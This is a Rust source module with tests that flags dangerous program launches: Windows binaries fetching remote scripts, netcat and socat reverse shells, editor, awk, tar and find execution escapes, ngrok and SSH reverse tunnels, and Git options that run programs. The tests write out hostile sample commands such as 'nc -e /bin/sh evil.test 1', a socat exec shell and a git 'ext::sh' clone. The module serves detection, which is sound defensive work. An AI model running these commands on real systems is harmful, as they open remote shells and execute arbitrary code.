//! Programs of a system that run what they are told by an option or an address: those of Windows that take a script, a
//! library or a package from anywhere, those that hand a shell to another machine, editors and archivers with a way to a
//! program, tunnels, and Git's settings. None of them is a server; a launch that names one does what the option says.

use super::loader::is_risky_setting;
use super::starters;
use crate::launch::line::{is_shell, power};

/// Index of the argument by which a program of Windows runs what lies on another machine, or stands in the line itself.
pub(super) fn runs_remote(program: &str, args: &[&str]) -> Option<usize> {
    let far = |word: &str| {
        let lower = word.trim_matches(['"', '\'']).to_ascii_lowercase();
        let share = lower.starts_with("\\\\") && !lower.starts_with("\\\\wsl");
        share || ["http://", "https://", "ftp://"].iter().any(|p| lower.starts_with(p))
    };
    let script = |word: &str| {
        let lower = word.trim_matches(['"', '\'']).to_ascii_lowercase();
        ["javascript:", "vbscript:", "about:<"].iter().any(|p| lower.starts_with(p))
    };
    let found: &dyn Fn(&str) -> bool = match program {
        "mshta" | "rundll32" => &|w| far(w) || script(w),
        "wscript" | "cscript" | "hh" | "installutil" | "certutil" | "bitsadmin" | "msiexec" => &far,
        "msbuild" | "control" | "cmstp" | "presentationhost" => &far,
        "regsvr32" => &|w| far(w) || w.get(..3).is_some_and(|f| f.eq_ignore_ascii_case("/i:") && far(&w[3..])),
        _ => return None,
    };
    args.iter().position(|a| found(a))
}

/// Index of a script that PowerShell takes from another machine.
pub(super) fn takes_script(program: &str, args: &[&str]) -> Option<usize> {
    let far = |word: &str| word.starts_with("\\\\") || word.contains("://");
    Some(power::file(args)?).filter(|at| power::is_shell(program) && far(args[*at].trim_matches(['"', '\''])))
}

/// Index of the argument by which another machine gets a shell of this one.
pub(super) fn hands_over(program: &str, args: &[&str]) -> Option<usize> {
    match program {
        "nc" | "ncat" | "netcat" | "nc.traditional" => (0..args.len()).find(|at| {
            let shell = |word: &str| is_shell(&crate::launch::line::program(word));
            match args[*at].strip_prefix('-').map(|rest| (rest, rest.strip_prefix('-'))) {
                // a long option may be cut short
                Some((_, Some(long))) => {
                    let name = long.split('=').next().unwrap_or(long);
                    let found = ["exec", "sh-exec", "lua-exec"].iter().any(|l| l.starts_with(name));
                    found && (name.len() > 1 || name == "e")
                }
                // letters may stand together, and the program behind its own; `-c` is encryption to some
                Some((letters, None)) => {
                    let own =
                        letters.split(['x', 'X', 's', 'w', 'i', 'q', 'I', 'O', 'T', 'm']).next().unwrap_or(letters);
                    let behind = own.find('c').map(|c| &letters[c + 1..]);
                    let next = args.get(at + 1).is_some_and(|a| shell(a));
                    own.contains('e')
                        || behind.is_some_and(|b| program.starts_with("nc") && program != "nc" || next || shell(b))
                }
                None => false,
            }
        }),
        "socat" => {
            let lower: Vec<String> = args.iter().map(|a| a.to_ascii_lowercase()).collect();
            let net = lower.iter().any(|a| ["tcp", "udp", "openssl", "ssl", "sctp"].iter().any(|p| a.starts_with(p)));
            let runs = |a: &String| ["exec:", "system:", "shell:"].iter().any(|p| a.starts_with(p));
            lower.iter().position(runs).filter(|_| net)
        }
        _ => None,
    }
}

/// Index of the argument by which a program that is no server starts another one, now or later.
pub(super) fn escapes(program: &str, args: &[&str]) -> Option<usize> {
    let lower = |a: &str| a.to_ascii_lowercase();
    let is = |what: &'static [&'static str]| args.iter().position(|a| what.contains(&lower(a).as_str()));
    match program {
        "awk" | "gawk" | "mawk" | "nawk" => args.iter().position(|a| {
            let code: String = a.chars().filter(|c| !c.is_whitespace()).collect();
            code.contains("system(") || code.contains("@load") || code.replace("||", "").contains('|')
        }),
        "vi" | "vim" | "nvim" | "ex" | "view" => args.iter().enumerate().position(|(at, a)| {
            let next = args.get(at + 1).copied().unwrap_or_default();
            let line = a.strip_prefix('+').is_some_and(|r| !r.bytes().all(|b| b.is_ascii_digit()));
            let settings = ["-u", "-U"].contains(a) && !["NONE", "NORC"].contains(&next);
            let runs = ["-c", "-S", "-s", "-l", "--cmd"].iter().any(|f| a == f || (f.len() == 2 && a.starts_with(f)));
            line || settings || runs || (a.starts_with([':', '!']) && a.contains('!'))
        }),
        "gdb" | "lldb" => args.iter().position(|a| {
            let line = a.split_once('=').filter(|(flag, _)| flag.starts_with('-')).map_or(*a, |(_, line)| line);
            ["shell ", "!", "platform shell", "pipe ", "python ", "script "].iter().any(|p| line.starts_with(p))
        }),
        "sed" | "gsed" => starters::sed(args),
        "tar" | "bsdtar" | "gtar" => (0..args.len()).find(|at| tar(args, *at)),
        "zip" => args.iter().position(|a| a.starts_with("-TT") || a.starts_with("--unzip-command")),
        "expect" => args.iter().position(|a| a.contains("spawn ") || a.contains("exec ")),
        "find" => is(&["-exec", "-execdir", "-ok", "-okdir"]),
        "xargs" | "parallel" => args.iter().position(|a| runs_code(a) || a.contains(['/', '\\'])),
        "odbcconf" => is(&["/a", "-a", "/f", "-f"]),
        "pcalua" => is(&["-a", "/a"]),
        "wmic" => is(&["create"]),
        "forfiles" => is(&["/c"]),
        "schtasks" => is(&["/create"]),
        "crontab" => args.iter().position(|a| !a.starts_with('-')),
        "launchctl" => is(&["load", "bootstrap", "submit"]),
        "at" | "batch" => is(&["-f"]),
        _ => None,
    }
}

/// Whether a word is a shell or an interpreter.
pub(super) fn runs_code(word: &str) -> bool {
    let name = crate::launch::line::program(word);
    let plain = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    is_shell(&name) || ["python", "node", "deno", "bun", "perl", "ruby", "php", "lua"].contains(&plain)
}

/// Whether an option of `tar` runs a program that is no usual one for packing. Long options may be cut short, and the value
/// may be a word of its own.
fn tar(args: &[&str], at: usize) -> bool {
    let (flag, value) = args[at].split_once('=').map_or((args[at], None), |(f, v)| (f, Some(v)));
    let value = value.or_else(|| args.get(at + 1).copied()).unwrap_or_default();
    let long = |name: &str, least: &str| flag.starts_with(least) && name.starts_with(flag);
    let packs = |v: &str| ["gzip", "pigz", "xz", "zstd", "bzip2", "pbzip2", "lz4", "lzip", "lzma"].contains(&v);
    if long("--checkpoint-action", "--checkpoint-") {
        return !["dot", ".", "bell", "totals"].contains(&value) && !value.starts_with("echo");
    }
    if long("--use-compress-program", "--us") || flag == "-I" {
        return !packs(value);
    }
    let joined = flag.strip_prefix("-I").is_some_and(|v| !packs(v));
    let others = [("--to-command", "--to-c"), ("--rsh-command", "--rs"), ("--info-script", "--inf")];
    joined
        || flag == "-F"
        || long("--new-volume-script", "--new")
        || others.iter().any(|(name, least)| long(name, least))
}

/// Index of the option by which SSH has the other machine lead to a port of this one. Letters may stand together, and options
/// also stand behind the host, but not behind the command for it.
fn forwards(args: &[&str]) -> Option<usize> {
    let (mut at, mut hosts) = (0, 0);
    while let Some(arg) = args.get(at) {
        let Some(letters) = arg.strip_prefix('-').filter(|l| !l.is_empty()) else {
            hosts += 1;
            if hosts == 2 {
                return None;
            }
            at += 1;
            continue;
        };
        let takes = letters.char_indices().find(|(_, c)| "BbcDEeFIiJLlmOopQRSWw".contains(*c));
        if let Some((i, letter)) = takes {
            let joined = &letters[i + 1..];
            let value = if joined.is_empty() { args.get(at + 1).copied().unwrap_or_default() } else { joined };
            let setting = value.trim_start_matches([' ', '\t', '"', '\'']).to_ascii_lowercase();
            if letter == 'R' || (letter == 'o' && setting.starts_with("remoteforward")) {
                return Some(at);
            }
            at += usize::from(joined.is_empty());
        }
        at += 1;
    }
    None
}

/// Index of the word by which a program makes a port of this machine reachable from the network.
pub(super) fn tunnels(program: &str, args: &[&str]) -> Option<usize> {
    let is = |what: &[&str]| args.iter().position(|a| what.contains(a));
    match program {
        "ngrok" => is(&["http", "tcp", "tls", "start"]),
        "cloudflared" => is(&["tunnel"]).filter(|_| args.iter().any(|a| a.starts_with("--url"))),
        "tailscale" => is(&["funnel"]),
        "lt" | "localtunnel" => args.iter().position(|a| a.starts_with("--port") || *a == "-p"),
        "ssh" | "plink" => forwards(args),
        // the port that it watches comes first
        "autossh" => args
            .iter()
            .position(|a| *a == "-M")
            .map_or_else(|| forwards(args), |at| forwards(args.get(at + 2..)?).map(|found| found + at + 2)),
        _ => None,
    }
}

/// Index of a setting on Git's command line that runs a program.
pub(super) fn setting(args: &[&str]) -> Option<usize> {
    let mut at = 0;
    while let Some(arg) = args.get(at) {
        let next = args.get(at + 1).copied().unwrap_or_default();
        match *arg {
            "-c" | "--config-env" if risky(next) => return Some(at + 1),
            "-c" | "-C" | "--config-env" | "--git-dir" | "--work-tree" | "--namespace" => at += 1,
            _ if arg.strip_prefix("--config-env=").is_some_and(risky) || arg.starts_with("--exec-path=") => {
                return Some(at);
            }
            _ if arg.starts_with('-') => {}
            // the verb; its own options may name a program for the other side, and those of a copy its settings
            verb => {
                let new = ["clone", "init"].contains(&verb);
                let found = (at + 1..args.len()).find(|i| {
                    let value = args.get(i + 1).copied().unwrap_or_default();
                    let program = ["--upload-pack", "--receive-pack", "--exec"].contains(&args[*i])
                        || (verb == "clone" && args[*i] == "-u");
                    let setting = ["-c", "--config"].contains(&args[*i]) && risky(value);
                    let joined = args[*i].strip_prefix("--config=").is_some_and(risky);
                    let hooks = args[*i].split('=').next() == Some("--template");
                    is_pack(args[*i])
                        || (program && !value.starts_with("git-"))
                        || (new && (setting || joined || hooks))
                });
                return found;
            }
        }
        at += 1;
    }
    None
}

fn is_pack(arg: &str) -> bool {
    let program = ["--upload-pack=", "--receive-pack=", "--exec="].iter().find_map(|p| arg.strip_prefix(p));
    program.is_some_and(|p| !p.starts_with("git-")) || arg.starts_with("ext::")
}

/// A setting that runs something; a usual pager is not meant.
fn risky(setting: &str) -> bool {
    let (key, value) = setting.split_once('=').unwrap_or((setting, "x"));
    is_risky_setting(key) && !["", "cat", "less", "true", "false", "never"].contains(&value)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn programs_that_run_what_an_address_holds_are_told_from_their_plain_use() {
        for (program, args) in [
            ("mshta", vec!["https://a.test/x.hta"]),
            ("mshta", vec!["vbscript:Execute(1)"]),
            ("rundll32", vec!["\\\\a.test\\s\\x.dll,Main"]),
            ("regsvr32", vec!["/s", "/u", "/i:https://a.test/x.sct", "scrobj.dll"]),
            ("msiexec", vec!["/q", "/i", "https://a.test/x.msi"]),
            ("cscript", vec!["//nologo", "\\\\a.test\\x.vbs"]),
        ] {
            assert!(runs_remote(program, &args).is_some(), "{program} {args:?}");
        }
        for (program, args) in [
            ("mshta", vec!["C:\\x\\a.hta"]),
            ("rundll32", vec!["shell32.dll,Control_RunDLL"]),
            ("cscript", vec!["//nologo", "C:\\x\\server.vbs", "a"]),
            ("node", vec!["x.js", "https://a.test"]),
        ] {
            assert_eq!(runs_remote(program, &args), None, "{program} {args:?}");
        }
    }

    #[test]
    fn programs_that_are_no_servers_are_told_from_those_that_only_carry_words() {
        for (program, args) in [
            ("nc", vec!["-e", "/bin/sh", "evil.test", "1"]),
            ("nc", vec!["-lvpe", "/bin/sh"]),
            ("nc", vec!["-e/bin/sh", "h", "1"]),
            ("nc", vec!["-c/bin/sh", "h", "1"]),
            ("ncat", vec!["-c", "./x", "h", "1"]),
            ("nc", vec!["--exe", "/bin/sh", "h", "1"]),
            ("ncat", vec!["--sh-e=/bin/sh", "h", "1"]),
            ("ncat", vec!["evil.test", "1", "--sh-exec", "/bin/bash"]),
            ("socat", vec!["exec:/bin/sh", "tcp:evil.test:1"]),
        ] {
            assert!(hands_over(program, &args).is_some(), "{program} {args:?}");
        }
        for (program, args) in [
            ("nc", vec!["localhost", "8080"]),
            ("nc", vec!["-c", "a.test", "443"]),
            ("nc", vec!["-U", "/run/x.sock"]),
            ("socat", vec!["STDIO", "TCP:host.docker.internal:8811"]),
            ("socat", vec!["-", "EXEC:./server"]),
            ("node", vec!["-e", "x"]),
        ] {
            assert_eq!(hands_over(program, &args), None, "{program} {args:?}");
        }
        for (program, args) in [
            ("awk", vec!["BEGIN{system(\"id\")}"]),
            ("vim", vec!["-c", ":!sh"]),
            ("vim", vec!["-S", "./x"]),
            ("vim", vec!["-S./x"]),
            ("nvim", vec!["+source x"]),
            ("vim", vec!["-u", "./x"]),
            ("gawk", vec!["BEGIN{\"id\"|getline}"]),
            ("gawk", vec!["BEGIN{print 1 | \"sh\"}"]),
            ("awk", vec!["BEGIN{system (\"id\")}"]),
            ("tar", vec!["xf", "a", "--checkpoint-action=exec=sh"]),
            ("tar", vec!["xf", "a", "--checkpoint-action", "exec=sh"]),
            ("tar", vec!["xf", "a", "--checkpoint-act=exec=sh"]),
            ("tar", vec!["xf", "a", "--use-compress-program=./x"]),
            ("tar", vec!["-I./x", "-xf", "a"]),
            ("find", vec![".", "-exec", "python3", "x", ";"]),
            ("find", vec![".", "-okdir", "./x", ";"]),
            ("xargs", vec!["python3", "-c"]),
            ("find", vec!["/", "-exec", "sh", "-c", "x", ";"]),
            ("schtasks", vec!["/Create", "/tr", "x"]),
            ("xargs", vec!["-a", "x", "bash", "-c"]),
        ] {
            assert!(escapes(program, &args).is_some(), "{program} {args:?}");
        }
        for (program, args) in [
            ("awk", vec!["{print $1}"]),
            ("awk", vec!["$1 || $2"]),
            ("crontab", vec!["-l"]),
            ("find", vec![".", "-name", "x"]),
            ("tar", vec!["-I", "zstd", "-xf", "a", "--checkpoint=10", "--checkpoint-action=dot"]),
            ("vim", vec!["+42", "-R", "x"]),
            ("nvim", vec!["--embed", "--headless", "-u", "NONE"]),
        ] {
            assert_eq!(escapes(program, &args), None, "{program} {args:?}");
        }
        assert!(tunnels("ngrok", &["http", "80"]).is_some() && tunnels("ssh", &["-R80:localhost:1", "h"]).is_some());
        for args in [
            vec!["-fNR", "80:localhost:1", "h"],
            vec!["-NR80:localhost:1", "h"],
            vec!["-o", "RemoteForward=80 localhost:1", "h"],
            vec!["-oRemoteForward=80 localhost:1", "h"],
            vec!["-o", "remoteforward 80 localhost:1", "h"],
            vec!["-i", "key", "h", "-R", "80:localhost:1"],
        ] {
            assert!(tunnels("ssh", &args).is_some(), "{args:?}");
        }
        assert!(tunnels("autossh", &["-M", "0", "-N", "h", "-R", "80:localhost:1"]).is_some());
        for args in [vec!["-L", "80:localhost:1", "h"], vec!["h", "x", "-R"], vec!["-i", "-R", "h"]] {
            assert!(tunnels("ssh", &args).is_none(), "{args:?}");
        }
        assert!(tunnels("ssh", &["-T", "h", "node"]).is_none() && tunnels("cloudflared", &["access", "ssh"]).is_none());
    }

    #[test]
    fn settings_of_git_that_run_a_program_are_seen() {
        for (args, at) in [
            (vec!["-c", "core.sshCommand=./x", "fetch"], 1),
            (vec!["-C", "/srv", "-c", "protocol.ext.allow=always", "clone", "ext::sh -c id"], 3),
            (vec!["--exec-path=/srv/x", "status"], 0),
            (vec!["clone", "--upload-pack=./x", "a:b"], 1),
            (vec!["clone", "--upload-pack", "./x", "a:b"], 1),
            (vec!["clone", "-u", "./x", "a:b"], 1),
            (vec!["clone", "-c", "core.sshCommand=./x", "a:b"], 1),
            (vec!["clone", "--config=core.sshCommand=./x", "a:b"], 1),
            (vec!["clone", "--template=./x", "a:b"], 1),
            (vec!["ls-remote", "--exec=./x", "a:b"], 1),
        ] {
            assert_eq!(setting(&args), Some(at), "{args:?}");
        }
        for args in [
            vec!["-c", "safe.directory=*", "mcp"],
            vec!["-c", "core.pager=cat", "log"],
            vec!["clone", "-c", "core.autocrlf=input", "a:b"],
            vec!["-C", "/srv", "status", "-c", "core.sshCommand=x"],
            vec!["mcp"],
        ] {
            assert_eq!(setting(&args), None, "{args:?}");
        }
    }
}
